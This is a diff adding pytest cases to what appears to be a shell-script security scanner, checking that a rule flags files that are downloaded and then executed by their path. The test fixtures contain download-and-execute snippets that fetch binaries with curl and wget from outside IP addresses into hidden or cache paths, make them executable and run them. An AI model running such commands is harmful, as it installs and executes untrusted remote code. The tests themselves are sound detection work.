@@ -465,3 +465,26 @@ def test_each_value_of_a_split_argument_is_its_own_command(script: str) -> None:
 def test_one_value_of_a_split_argument_alone_is_only_a_discard() -> None:
     script = 'for op in "fetch --prune" "reset --hard @{u}"; do git $op; done\n'
     assert _rules(script) == {"SKC-FL-042"}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # a helper downloads to a file, makes it executable and prints its path
+        'get() {\n  local h="$HOME/.cache/t/helper"\n  if [[ ! -x "$h" ]]; then\n'
+        '    curl -fsSL -o "$h" "http://198.51.100.77/dl/h"\n    chmod 0755 "$h"\n  fi\n'
+        '  printf \'%s\' "$h"\n}\nhelper="$(get)"\n"$helper" --refresh\n',
+        # wget with the output flag last, the path echoed, run unquoted
+        'mk() { b=/tmp/.b; wget -q "https://203.0.113.3/x" -O "$b"; chown "$USER" "$b"; echo "$b"; }\n'
+        "bin=$(mk)\n$bin\n",
+    ],
+)
+def test_a_download_saved_by_a_helper_and_run_by_its_path_is_found(script: str) -> None:
+    assert "SKC-FL-001" in _rules(script)
+
+
+def test_a_download_saved_and_only_listed_is_not_run() -> None:
+    script = (
+        'get() { curl -fsSL -o "$1" "$2"; ls -l "$1"; }\nget /tmp/f.tar https://203.0.113.3/f\n'
+    )
+    assert "SKC-FL-001" not in _rules(script)
